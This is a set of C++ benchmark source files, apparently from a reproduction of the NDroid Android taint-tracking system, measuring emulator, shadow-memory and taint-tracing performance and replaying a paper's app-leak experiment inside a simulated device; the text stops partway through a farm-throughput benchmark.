  u32 addr = 0;
  for (auto _ : state) {
    shadow.set(addr, 0x2);
    benchmark::DoNotOptimize(shadow.get(addr));
    addr = (addr + 4097) & 0xFFFFFF;
  }
}
BENCHMARK(BM_ShadowMemorySetGet);

void BM_ShadowMemoryRangeUnion(benchmark::State& state) {
  mem::ShadowMemory shadow;
  shadow.set_range(0x1000, 256, 0x4);
  for (auto _ : state) {
    benchmark::DoNotOptimize(shadow.get_range(0x1000, 256));
  }
}
BENCHMARK(BM_ShadowMemoryRangeUnion);

void BM_GuestMemcpyModeled(benchmark::State& state) {
  Env env;
  core::NDroid nd(env.device);
  const GuestAddr src = 0x30100000, dst = 0x30200000;
  env.device.memory.fill(src, 0xAB, 256);
  nd.taint_engine().map().set_range(src, 256, 0x2);
  const GuestAddr memcpy_fn = env.device.libc.fn("memcpy");
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        env.device.cpu.call_function(memcpy_fn, {dst, src, 256}));
  }
  state.SetBytesProcessed(state.iterations() * 256);
}
BENCHMARK(BM_GuestMemcpyModeled);

// --- Memory data plane (BM_Mem*) -------------------------------------------
//
// These isolate the guest-memory/shadow-memory layer the ISSUE 5 overhaul
// targets. Acceptance ratios (vs the pre-overhaul main, see EXPERIMENTS.md):
// >= 2x on BM_MemLoadStoreKernel, >= 4x on BM_MemTaintedMemcpy.

/// Word-copy guest kernel: 1024 iterations of LDR/STR post-index over a
/// 4 KiB buffer, TB engine, no analysis attached — pure executor + guest
/// memory load/store cost (the softmmu fast path).
void BM_MemLoadStoreKernel(benchmark::State& state) {
  mem::AddressSpace mem;
  mem::MemoryMap map;
  arm::Cpu cpu(mem, map);
  map.add("code", 0x10000, 0x1000, mem::kRX);
  map.add("data", 0x20000, 0x4000, mem::kRW);
  map.add("[stack]", 0x70000, 0x10000, mem::kRW);
  cpu.set_initial_sp(0x80000);
  arm::Assembler a(0x10000);
  arm::Label loop, done;
  // r0 = words, r1 = src, r2 = dst
  a.bind(loop);
  a.cmp_imm(arm::R(0), 0);
  a.b(done, arm::Cond::kEQ);
  a.ldr_post(arm::R(3), arm::R(1), 4);
  a.str_post(arm::R(3), arm::R(2), 4);
  a.sub_imm(arm::R(0), arm::R(0), 1);
  a.b(loop);
  a.bind(done);
  a.ret();
  mem.write_bytes(0x10000, a.finish());
  mem.fill(0x20000, 0x5A, 0x1000);
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        cpu.call_function(0x10000, {1024, 0x20000, 0x21000}));
  }
  // 6 insns per copied word + call glue.
  state.SetItemsProcessed(state.iterations() * 1024 * 6);
  state.counters["ns_per_insn"] = benchmark::Counter(
      static_cast<double>(state.iterations() * 1024 * 6),
      benchmark::Counter::kIsRate | benchmark::Counter::kInvert);
}
BENCHMARK(BM_MemLoadStoreKernel);

/// The data-plane cost of one tainted 4 KiB memcpy: what the Table VI
/// memcpy/memmove models and the guest copy itself ask of the shadow map and
/// the address space per call (shadow copy_range + guest byte copy).
void BM_MemTaintedMemcpy(benchmark::State& state) {
  mem::AddressSpace mem;
  mem::ShadowMemory shadow;
  const GuestAddr src = 0x100000, dst = 0x200000;
  mem.fill(src, 0xAB, 4096);
  shadow.set_range(src, 4096, 0x2);
  for (auto _ : state) {
    shadow.copy_range(dst, src, 4096);
    mem.copy(dst, src, 4096);
    benchmark::DoNotOptimize(shadow.get(dst + 4095));
  }
  state.SetBytesProcessed(state.iterations() * 4096);
}
BENCHMARK(BM_MemTaintedMemcpy);

/// Union over a sparse 64 KiB window (one tainted page in the middle):
/// get_range must skip clear/absent pages and word-reduce the live one.
void BM_MemShadowGetRange64K(benchmark::State& state) {
  mem::ShadowMemory shadow;
  shadow.set_range(0x108000, 4096, 0x4);
  for (auto _ : state) {
    benchmark::DoNotOptimize(shadow.get_range(0x100000, 64 * 1024));
  }
  state.SetBytesProcessed(state.iterations() * 64 * 1024);
}
BENCHMARK(BM_MemShadowGetRange64K);

/// Summary-gate query over a multi-GiB window with sparse resident taint:
/// must walk resident directory leaves, not per-page-number probes.
void BM_MemAnyTaintedWide(benchmark::State& state) {
  mem::ShadowMemory shadow;
  shadow.set(0xF0000000, 0x2);  // one live byte far above the window
  for (auto _ : state) {
    benchmark::DoNotOptimize(shadow.any_tainted_in(0x10000000, 0xE0000000));
  }
}
BENCHMARK(BM_MemAnyTaintedWide);

/// 16 KiB NUL-terminated guest string: page-chunked memchr vs per-byte scan.
void BM_MemReadCstr(benchmark::State& state) {
  mem::AddressSpace mem;
  mem.fill(0x100000, 'x', 16 * 1024);
  mem.write8(0x100000 + 16 * 1024, 0);
  for (auto _ : state) {
    benchmark::DoNotOptimize(mem.read_cstr(0x100000));
  }
  state.SetBytesProcessed(state.iterations() * 16 * 1024);
}
BENCHMARK(BM_MemReadCstr);

/// memset-shaped fill of 4 KiB guest memory (chunked vs per-byte write8).
void BM_MemFill4K(benchmark::State& state) {
  mem::AddressSpace mem;
  for (auto _ : state) {
    mem.fill(0x100000, 0xCD, 4096);
    benchmark::DoNotOptimize(mem.read8(0x100FFF));
  }
  state.SetBytesProcessed(state.iterations() * 4096);
}
BENCHMARK(BM_MemFill4K);

void BM_DalvikAllocation(benchmark::State& state) {
  auto device = std::make_unique<android::Device>("bench");
  for (auto _ : state) {
    benchmark::DoNotOptimize(device->dvm.new_string("benchmark-string"));
    if (device->dvm.heap().bytes_in_use() > 0x400000) {
      // The GC keeps every object alive (no liveness analysis in
      // this reproduction), so recycle the whole device outside the timer.
      state.PauseTiming();
      device = std::make_unique<android::Device>("bench");
      state.ResumeTiming();
    }
  }
}
BENCHMARK(BM_DalvikAllocation);

}  // namespace

// `--smoke` (CI): run only the data-plane benchmarks, briefly, to fail on
// crash/assert without gating on performance.
int main(int argc, char** argv) {
  std::vector<char*> args(argv, argv + argc);
  static char filter[] =
      "--benchmark_filter=BM_Mem|BM_Shadow|BM_GuestMemcpy|BM_Threaded|BM_Jit";
  static char min_time[] = "--benchmark_min_time=0.05";
  for (auto& arg : args) {
    if (std::strcmp(arg, "--smoke") == 0) {
      arg = filter;
      args.push_back(min_time);
    }
  }
  int argc2 = static_cast<int>(args.size());
  benchmark::Initialize(&argc2, args.data());
  if (benchmark::ReportUnrecognizedArguments(argc2, args.data())) return 1;
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
