// Microbenchmarks (google-benchmark) of the substrate hot paths that
// determine the Fig. 10 numbers: raw emulation speed, instruction-tracer
// cost, shadow-memory operations, and interpreter throughput.
#include <benchmark/benchmark.h>

#include "apps/cfbench.h"
#include "core/ndroid.h"

using namespace ndroid;

namespace {

struct Env {
  android::Device device;
  apps::CfBenchApp bench;
  Env() : device("bench"), bench(device) {}
};

void BM_EmulatorNativeMips(benchmark::State& state) {
  Env env;
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  state.SetItemsProcessed(state.iterations() * 1000 * 11);  // ~insns/iter
}
BENCHMARK(BM_EmulatorNativeMips);

void BM_EmulatorNativeMipsTraced(benchmark::State& state) {
  Env env;
  core::NDroid nd(env.device);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  state.SetItemsProcessed(state.iterations() * 1000 * 11);
}
BENCHMARK(BM_EmulatorNativeMipsTraced);

void BM_InterpreterJavaMips(benchmark::State& state) {
  Env env;
  const auto* w = env.bench.find("Java MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  state.SetItemsProcessed(state.iterations() * 1000 * 9);  // bytecodes/iter
}
BENCHMARK(BM_InterpreterJavaMips);

void BM_ShadowMemorySetGet(benchmark::State& state) {
  mem::ShadowMemory shadow;
  u32 addr = 0;
  for (auto _ : state) {
    shadow.set(addr, 0x2);
    benchmark::DoNotOptimize(shadow.get(addr));
    addr = (addr + 4097) & 0xFFFFFF;
  }
}
BENCHMARK(BM_ShadowMemorySetGet);

void BM_ShadowMemoryRangeUnion(benchmark::State& state) {
  mem::ShadowMemory shadow;
  shadow.set_range(0x1000, 256, 0x4);
  for (auto _ : state) {
    benchmark::DoNotOptimize(shadow.get_range(0x1000, 256));
  }
}
BENCHMARK(BM_ShadowMemoryRangeUnion);

void BM_GuestMemcpyModeled(benchmark::State& state) {
  Env env;
  core::NDroid nd(env.device);
  const GuestAddr src = 0x30100000, dst = 0x30200000;
  env.device.memory.fill(src, 0xAB, 256);
  nd.taint_engine().map().set_range(src, 256, 0x2);
  const GuestAddr memcpy_fn = env.device.libc.fn("memcpy");
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        env.device.cpu.call_function(memcpy_fn, {dst, src, 256}));
  }
  state.SetBytesProcessed(state.iterations() * 256);
}
BENCHMARK(BM_GuestMemcpyModeled);

void BM_DalvikAllocation(benchmark::State& state) {
  auto device = std::make_unique<android::Device>("bench");
  for (auto _ : state) {
    benchmark::DoNotOptimize(device->dvm.new_string("benchmark-string"));
    if (device->dvm.heap().bytes_in_use() > 0x400000) {
      // The GC keeps every object alive (no liveness analysis in
      // this reproduction), so recycle the whole device outside the timer.
      state.PauseTiming();
      device = std::make_unique<android::Device>("bench");
      state.ResumeTiming();
    }
  }
}
BENCHMARK(BM_DalvikAllocation);

}  // namespace

BENCHMARK_MAIN();
