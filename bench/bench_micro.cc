// Microbenchmarks (google-benchmark) of the substrate hot paths that
// determine the Fig. 10 numbers: raw emulation speed, instruction-tracer
// cost, shadow-memory operations, and interpreter throughput.
#include <benchmark/benchmark.h>

#include "apps/cfbench.h"
#include "core/ndroid.h"

using namespace ndroid;

namespace {

struct Env {
  android::Device device;
  apps::CfBenchApp bench;
  Env() : device("bench"), bench(device) {}
};

constexpr u64 kMipsInsnsPerIter = 1000 * 11;  // ~insns per bench.run(w, 1000)

void report_native_mips(benchmark::State& state, const arm::Cpu& cpu) {
  state.SetItemsProcessed(state.iterations() * kMipsInsnsPerIter);
  const core::PerfCounters perf = core::collect_perf(cpu);
  state.counters["tb_hit_rate"] = perf.tb_hit_rate();
  state.counters["ns_per_insn"] = benchmark::Counter(
      static_cast<double>(state.iterations() * kMipsInsnsPerIter),
      benchmark::Counter::kIsRate | benchmark::Counter::kInvert);
}

/// Taint-free native loop, translation-block engine (the default).
void BM_EmulatorNativeMips(benchmark::State& state) {
  Env env;
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMips);

/// Taint-free native loop on the seed interpretive path (ablation
/// `use_tb_cache=false`): the pre-PR baseline for the emulator itself.
void BM_EmulatorNativeMipsInterp(benchmark::State& state) {
  Env env;
  env.device.cpu.set_use_tb_cache(false);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsInterp);

/// Taint-free native loop with NDroid attached, TB engine: the block gate
/// sees no live taint and skips all per-instruction work (fast path).
void BM_EmulatorNativeMipsTraced(benchmark::State& state) {
  Env env;
  core::NDroid nd(env.device);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTraced);

/// NDroid attached on the seed interpretive path: every instruction is
/// hooked and classified — the pre-PR traced baseline. The acceptance
/// target is BM_EmulatorNativeMipsTraced >= 3x faster than this.
void BM_EmulatorNativeMipsTracedInterp(benchmark::State& state) {
  Env env;
  env.device.cpu.set_use_tb_cache(false);
  core::NDroid nd(env.device);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTracedInterp);

/// NDroid + TB engine with live register taint: the liveness gate cannot
/// skip any in-scope block, so this measures per-instruction tracing cost
/// (Table V classification + propagation) on the TB engine.
void BM_EmulatorNativeMipsTracedTainted(benchmark::State& state) {
  Env env;
  core::NDroid nd(env.device);
  // Taint a callee-saved register the loop never writes: register liveness
  // stays non-zero forever and every block takes the traced path.
  nd.taint_engine().set_reg(4, 0x2);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTracedTainted);

/// NDroid + TB engine with live register taint and NO gating at all
/// (`taint_liveness_fastpath=false`, `static_summaries=false`): the seed
/// full-trace configuration on the TB engine. Baseline for the gating trio
/// recorded by scripts/bench.sh.
void BM_EmulatorNativeMipsTracedTaintedFull(benchmark::State& state) {
  Env env;
  core::NDroidConfig cfg;
  cfg.taint_liveness_fastpath = false;
  cfg.static_summaries = false;
  core::NDroid nd(env.device, cfg);
  nd.taint_engine().set_reg(4, 0x2);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTracedTaintedFull);

/// Same live taint (r4 — outside nativeMips's Table V footprint r0-r3), but
/// with the static pre-analysis attached: the liveness gate alone cannot
/// skip (register taint is live), while the summary gate proves the
/// intersection empty and skips the whole loop. The speedup of this
/// benchmark over BM_EmulatorNativeMipsTracedTainted is the PR's
/// summary-gated acceptance ratio.
void BM_EmulatorNativeMipsTracedTaintedSummary(benchmark::State& state) {
  Env env;
  core::NDroid nd(env.device);
  nd.attach_static_analysis();
  nd.taint_engine().set_reg(4, 0x2);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTracedTaintedSummary);

void BM_InterpreterJavaMips(benchmark::State& state) {
  Env env;
  const auto* w = env.bench.find("Java MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  state.SetItemsProcessed(state.iterations() * 1000 * 9);  // bytecodes/iter
}
BENCHMARK(BM_InterpreterJavaMips);

void BM_ShadowMemorySetGet(benchmark::State& state) {
  mem::ShadowMemory shadow;
  u32 addr = 0;
  for (auto _ : state) {
    shadow.set(addr, 0x2);
    benchmark::DoNotOptimize(shadow.get(addr));
    addr = (addr + 4097) & 0xFFFFFF;
  }
}
BENCHMARK(BM_ShadowMemorySetGet);

void BM_ShadowMemoryRangeUnion(benchmark::State& state) {
  mem::ShadowMemory shadow;
  shadow.set_range(0x1000, 256, 0x4);
  for (auto _ : state) {
    benchmark::DoNotOptimize(shadow.get_range(0x1000, 256));
  }
}
BENCHMARK(BM_ShadowMemoryRangeUnion);

void BM_GuestMemcpyModeled(benchmark::State& state) {
  Env env;
  core::NDroid nd(env.device);
  const GuestAddr src = 0x30100000, dst = 0x30200000;
  env.device.memory.fill(src, 0xAB, 256);
  nd.taint_engine().map().set_range(src, 256, 0x2);
  const GuestAddr memcpy_fn = env.device.libc.fn("memcpy");
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        env.device.cpu.call_function(memcpy_fn, {dst, src, 256}));
  }
  state.SetBytesProcessed(state.iterations() * 256);
}
BENCHMARK(BM_GuestMemcpyModeled);

void BM_DalvikAllocation(benchmark::State& state) {
  auto device = std::make_unique<android::Device>("bench");
  for (auto _ : state) {
    benchmark::DoNotOptimize(device->dvm.new_string("benchmark-string"));
    if (device->dvm.heap().bytes_in_use() > 0x400000) {
      // The GC keeps every object alive (no liveness analysis in
      // this reproduction), so recycle the whole device outside the timer.
      state.PauseTiming();
      device = std::make_unique<android::Device>("bench");
      state.ResumeTiming();
    }
  }
}
BENCHMARK(BM_DalvikAllocation);

}  // namespace

BENCHMARK_MAIN();
