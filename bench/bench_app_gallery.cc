// Regenerates the §VI prose experiment: manually exercising 8 apps that use
// JNI and are related to phone/SMS/contacts. "NDroid found that 3 apps
// delivered the contact and SMS information to native code. One app (i.e.
// ephone3.3) further sends out the contact information through native code."
//
// Our gallery: 8 apps — 3 deliver sensitive data to native code (2 of them
// process it locally without leaking; ePhone exfiltrates), 5 use JNI for
// benign work only. The "delivered to native" signal is a SourcePolicy
// creation (tainted data crossed dvmCallJNIMethod); the leak signal is a
// native sink or a Java sink firing.
#include <cstdio>
#include <memory>

#include "apps/monkey.h"
#include "apps/native_lib_builder.h"
#include "apps/real_apps.h"
#include "core/ndroid.h"

using namespace ndroid;

namespace {

using apps::LeakScenario;

/// An app that passes sensitive data to native code but does not leak it
/// (the native method just computes a checksum).
LeakScenario build_processor_app(android::Device& device, const char* pkg) {
  apps::NativeLibBuilder lib(device, std::string("lib") + pkg + ".so");
  auto& a = lib.a();
  using arm::Cond;
  using arm::Label;
  using arm::LR;
  using arm::PC;
  using arm::R;
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");

  const GuestAddr fn = lib.fn();
  Label loop, done;
  a.push({R(4), LR});
  a.mov(R(1), R(2));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  // checksum loop over the C string
  a.mov_imm(R(1), 0);
  a.bind(loop);
  a.ldrb_post(R(2), R(0), 1);
  a.cmp_imm(R(2), 0);
  a.b(done, Cond::kEQ);
  a.add(R(1), R(1), R(2));
  a.b(loop);
  a.bind(done);
  a.mov(R(0), R(1));
  a.pop({R(4), PC});
  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app =
      dvm.define_class("L" + std::string(pkg) + "/App;");
  dvm::Method* process = dvm.define_native(
      app, "checksum", "IL", dvm::kAccPublic | dvm::kAccStatic, fn);
  dvm::Method* src = device.framework.sms_manager->find_method(
      "getAllMessages");
  dvm::CodeBuilder cb;
  cb.invoke(src, {})
      .move_result(0)
      .invoke(process, {0})
      .move_result(1)
      .return_value(1);
  dvm::Method* entry = dvm.define_method(
      app, "main", "I", dvm::kAccPublic | dvm::kAccStatic, 2, cb.take());
  return LeakScenario{entry, "", "delivers SMS to native, no leak"};
}

/// A benign app: JNI used only on non-sensitive data.
LeakScenario build_benign_app(android::Device& device, const char* pkg) {
  apps::NativeLibBuilder lib(device, std::string("lib") + pkg + ".so");
  auto& a = lib.a();
  using arm::R;
  const GuestAddr fn = lib.fn();
  a.mul(R(0), R(2), R(2));
  a.ret();
  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app =
      dvm.define_class("L" + std::string(pkg) + "/App;");
  dvm::Method* square = dvm.define_native(
      app, "square", "II", dvm::kAccPublic | dvm::kAccStatic, fn);
  dvm::CodeBuilder cb;
  cb.const_imm(0, 21).invoke(square, {0}).move_result(1).return_value(1);
  dvm::Method* entry = dvm.define_method(
      app, "main", "I", dvm::kAccPublic | dvm::kAccStatic, 2, cb.take());
  return LeakScenario{entry, "", "benign JNI usage"};
}

}  // namespace

int main() {
  // Phase 1 (§VI): random input first — "we first used one simple tool
  // (i.e., Monkeyrunner) to generate random input ... we just found that
  // QQPhoneBook3.5 may leak sensitive information through JNI."
  {
    android::Device device("com.tencent.qqphonebook");
    core::NDroid nd(device);
    apps::build_qq_phonebook(device);
    apps::Monkey monkey(device, 2014);
    monkey.add_target(
        device.dvm.find_class("Lcom/tencent/tccsync/LoginUtil;"));
    const apps::MonkeyReport report = monkey.run(40, [&] {
      return static_cast<u32>(device.framework.leaks().size() +
                              nd.leaks().size());
    });
    std::printf(
        "Phase 1 — Monkeyrunner-style random input over QQPhoneBook:\n"
        "  %zu random invocations, %u leak(s); first leaking entry: %s\n\n",
        report.events.size(), report.total_leaks,
        report.first_leaking_method.empty()
            ? "(none)"
            : report.first_leaking_method.c_str());
  }

  // Phase 2: manually-generated input over 8 phone/SMS/contacts apps.
  struct App {
    std::string name;
    LeakScenario (*real)(android::Device&) = nullptr;
    const char* pkg = nullptr;
    bool processor = false;
  };
  const App gallery[] = {
      {"ephone3.3", &apps::build_ephone, nullptr, false},
      {"smsbackup1.2", nullptr, "smsbackup", true},
      {"contactsync2.0", nullptr, "contactsync", true},
      {"dialerpro1.1", nullptr, "dialerpro", false},
      {"gamepack3d", nullptr, "gamepack", false},
      {"musicbox", nullptr, "musicbox", false},
      {"photofx", nullptr, "photofx", false},
      {"weatherwidget", nullptr, "weather", false},
  };

  std::printf("Section VI gallery — 8 JNI apps related to phone/SMS/contacts\n\n");
  std::printf("%-16s %-24s %-10s\n", "app", "sensitive->native?", "leaks?");

  int delivered = 0, leaked = 0;
  for (const App& app : gallery) {
    android::Device device(app.name);
    core::NDroid nd(device);
    LeakScenario scenario =
        app.real != nullptr
            ? app.real(device)
            : (app.processor ? build_processor_app(device, app.pkg)
                             : build_benign_app(device, app.pkg));
    device.dvm.call(*scenario.entry, {});

    const bool to_native = nd.dvm_hooks().source_policies_created > 0;
    const bool leak =
        !nd.leaks().empty() || !device.framework.leaks().empty();
    delivered += to_native;
    leaked += leak;
    std::printf("%-16s %-24s %-10s\n", app.name.c_str(),
                to_native ? "yes (SourcePolicy)" : "no",
                leak ? "LEAKS" : "no");
  }

  std::printf(
      "\nsummary: %d/8 delivered sensitive data to native code, %d leaked\n"
      "paper:   3/8 delivered contact/SMS data, 1 (ephone3.3) leaked\n",
      delivered, leaked);
  return (delivered == 3 && leaked == 1) ? 0 : 1;
}
