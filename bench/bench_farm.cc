// Farm throughput, summary-cache amortisation, and process-pool /
// persistent-store warm starts (src/farm).
//
// Runs the same repeated corpus (Table I cases + CF-Bench workloads +
// market apps + monkey-driven real apps) through nine configurations:
//
//   serial/no-cache   — workers=0, per-job lifting (the pre-farm baseline);
//   farm w=1,2,4,8    — work-stealing workers over a fresh shared
//                       summary cache per row;
//   procs p=2 no-tmpl — crash-isolated fork pool with the zygote template
//                       disabled (every job process builds its own Device:
//                       prices the template);
//   procs p=2         — fork pool, no persistent store (every job process
//                       re-lifts: the cost the store removes);
//   procs p=2 cold    — fork pool over a fresh on-disk SummaryStore (first
//                       encounters lift and write back, the rest load);
//   procs p=2 warm    — the same store directory again: the supervisor
//                       pre-publishes every entry before forking, so workers
//                       inherit a fully warmed cache via copy-on-write.
//
// Records wall clock, apps/sec, per-phase time totals, and cache/store
// counters into BENCH_farm.json, and enforces the invariants that hold on
// any host:
//   * every row's leak digest is byte-identical (topology determinism);
//   * zero job failures, retries, and worker deaths on the clean corpus;
//   * cache hit rate > 90% on the repeated corpus (>= 10 repetitions),
//     in-memory for the thread rows and warm-store for the process row;
//   * the cache strictly reduces summed static-analysis time vs no-cache;
//   * the zygote template + warm store strictly reduce summed setup_ms vs
//     the serial baseline (the paper's per-app setup cost, amortised).
// The >= 3x w=8-vs-w=1 throughput check only runs when the host has >= 4
// CPUs: thread scaling cannot show wall-clock gains on fewer cores (this
// repo's reference box has 1), and honest numbers beat fabricated ones.
//
//   bench_farm [reps] [--json out.json]
//              [--engine interp|tb|tb+tlb|threaded|jit]
// (`--engine jit` degrades to the threaded tier on hosts without host-code
// emission, so the row is valid — just not faster — everywhere.)
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include "farm/farm.h"
#include "farm/providers.h"

using namespace ndroid;

namespace {

struct RowResult {
  std::string label;
  u32 workers = 0;
  u32 processes = 0;
  bool shared = false;
  bool store = false;
  farm::FarmReport report;
  double setup_ms = 0, static_ms = 0, run_ms = 0;
};

farm::EngineTier g_engine = farm::EngineTier::kThreaded;

RowResult run_row(const std::string& label, u32 workers, u32 processes,
                  bool shared, const std::string& store_dir,
                  const std::vector<farm::JobSpec>& jobs,
                  bool zygote_template = true) {
  farm::FarmOptions options;
  options.workers = workers;
  options.processes = processes;
  options.share_summaries = shared;
  options.store_dir = store_dir;
  options.zygote_template = zygote_template;
  options.engine = g_engine;
  RowResult row;
  row.label = label;
  row.workers = workers;
  row.processes = processes;
  row.shared = shared;
  row.store = !store_dir.empty();
  row.report = farm::run_farm(jobs, options);
  for (const farm::JobResult& r : row.report.results) {
    row.setup_ms += r.timing.setup_ms;
    row.static_ms += r.timing.static_ms;
    row.run_ms += r.timing.run_ms;
  }
  return row;
}

const char* build_type() {
#ifdef NDEBUG
  return "release";
#else
  return "debug";
#endif
}

}  // namespace

int main(int argc, char** argv) {
  u32 reps = 12;
  std::string json_path = "BENCH_farm.json";
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--json") == 0 && i + 1 < argc) {
      json_path = argv[++i];
    } else if (std::strcmp(argv[i], "--engine") == 0 && i + 1 < argc) {
      g_engine = farm::parse_engine(argv[++i]);
    } else {
      reps = static_cast<u32>(std::strtoul(argv[i], nullptr, 10));
    }
  }

  const u32 host_cpus = std::max(1u, std::thread::hardware_concurrency());
  const std::vector<farm::JobSpec> jobs = farm::repeat_jobs(
      farm::default_mix(/*cfbench_iterations=*/10, /*market_apps=*/8,
                        /*monkey_events=*/8, /*seed=*/20140623),
      reps);

  std::printf(
      "bench_farm: %zu jobs (%u reps), host_cpus=%u, %s build, %s engine\n\n",
      jobs.size(), reps, host_cpus, build_type(), farm::to_string(g_engine));
  std::printf("%-18s %10s %10s %9s %9s %10s %9s %9s\n", "config", "wall_ms",
              "apps/sec", "hits", "misses", "hit_rate", "st_hits", "st_wr");

  std::vector<RowResult> rows;
  rows.push_back(run_row("serial/no-cache", 0, 0, false, "", jobs));
  for (const u32 w : {1u, 2u, 4u, 8u}) {
    rows.push_back(run_row("farm w=" + std::to_string(w), w, 0, true, "",
                           jobs));
  }

  // Process pool rows: no zygote template (every job process builds its own
  // Device — prices the template), bare (template, no store — re-lifts per
  // job process), then a cold persistent store, then the same store warm —
  // the twice-run scenario the store exists for.
  const std::string store_dir =
      std::filesystem::temp_directory_path() / "bench_farm_store";
  std::filesystem::remove_all(store_dir);
  rows.push_back(run_row("procs p=2 no-tmpl", 0, 2, true, "", jobs,
                         /*zygote_template=*/false));
  rows.push_back(run_row("procs p=2", 0, 2, true, "", jobs));
  rows.push_back(run_row("procs p=2 cold", 0, 2, true, store_dir, jobs));
  rows.push_back(run_row("procs p=2 warm", 0, 2, true, store_dir, jobs));

  for (const RowResult& row : rows) {
    const auto& c = row.report.cache;
    std::printf("%-18s %10.1f %10.1f %9llu %9llu %9.1f%% %9llu %9llu\n",
                row.label.c_str(), row.report.wall_ms,
                row.report.apps_per_sec,
                static_cast<unsigned long long>(c.hits),
                static_cast<unsigned long long>(c.misses),
                100.0 * c.hit_rate(),
                static_cast<unsigned long long>(c.store_hits),
                static_cast<unsigned long long>(c.store_writes));
  }

  const RowResult& serial = rows[0];
  const RowResult& w1 = rows[1];
  const RowResult& w8 = rows[4];
  const RowResult& p2_no_tmpl = rows[5];
  const RowResult& p2_cold = rows[7];
  const RowResult& p2_warm = rows[8];
  const double speedup_w8_vs_w1 =
      w8.report.wall_ms > 0 ? w1.report.wall_ms / w8.report.wall_ms : 0.0;
  const double speedup_w8_vs_serial =
      w8.report.wall_ms > 0 ? serial.report.wall_ms / w8.report.wall_ms : 0.0;
  const double static_saving = serial.static_ms > 0
                                   ? 1.0 - w1.static_ms / serial.static_ms
                                   : 0.0;
  // Like-for-like comparisons inside the process topology: the template's
  // saving shows against the no-template row (same fork and copy-on-write
  // costs on both sides), and the warm store's against the cold row.
  const double setup_saving =
      p2_no_tmpl.setup_ms > 0 ? 1.0 - p2_warm.setup_ms / p2_no_tmpl.setup_ms
                              : 0.0;
  const double procs_static_saving =
      p2_cold.static_ms > 0 ? 1.0 - p2_warm.static_ms / p2_cold.static_ms
                            : 0.0;
  std::printf(
      "\n  speedup w8 vs w1       %.2fx\n"
      "  speedup w8 vs serial   %.2fx\n"
      "  static-ms saved by cache (w1 vs no-cache)  %.1f%%\n"
      "  setup-ms saved by zygote template (p2 warm vs p2 no-tmpl)  %.1f%%\n"
      "  static-ms saved by warm store (p2 warm vs p2 cold)  %.1f%%\n"
      "  warm start: %u entries pre-published, %llu store hits, %llu writes\n",
      speedup_w8_vs_w1, speedup_w8_vs_serial, 100.0 * static_saving,
      100.0 * setup_saving, 100.0 * procs_static_saving,
      p2_warm.report.warm_entries,
      static_cast<unsigned long long>(p2_warm.report.cache.store_hits),
      static_cast<unsigned long long>(p2_warm.report.cache.store_writes));

  // ---- shape checks ------------------------------------------------------
  int failures = 0;
  const std::string reference = serial.report.leak_digest();
  for (const RowResult& row : rows) {
    if (row.report.failures != 0) {
      std::printf("FAIL: %s had %u job failures\n", row.label.c_str(),
                  row.report.failures);
      ++failures;
    }
    if (row.report.leak_digest() != reference) {
      std::printf("FAIL: %s leak digest differs from serial\n",
                  row.label.c_str());
      ++failures;
    }
    if (row.report.retries != 0 || row.report.worker_deaths != 0) {
      std::printf("FAIL: %s saw %u retries / %u worker deaths on a clean "
                  "corpus\n", row.label.c_str(), row.report.retries,
                  row.report.worker_deaths);
      ++failures;
    }
  }
  if (reps >= 10) {
    // Thread rows share one in-memory cache; process rows only share
    // through the store, so the in-memory criterion applies to the warm
    // row (the cache is pre-published before any fork).
    for (const std::size_t i : {std::size_t{1}, std::size_t{2},
                                std::size_t{3}, std::size_t{4},
                                std::size_t{8}}) {
      if (rows[i].report.cache.hit_rate() <= 0.90) {
        std::printf("FAIL: %s hit rate %.1f%% <= 90%%\n",
                    rows[i].label.c_str(),
                    100.0 * rows[i].report.cache.hit_rate());
        ++failures;
      }
    }
  }
  if (serial.static_ms > 0 && w1.static_ms >= serial.static_ms) {
    std::printf("FAIL: shared cache did not reduce static-analysis time "
                "(%.2fms vs %.2fms)\n", w1.static_ms, serial.static_ms);
    ++failures;
  }
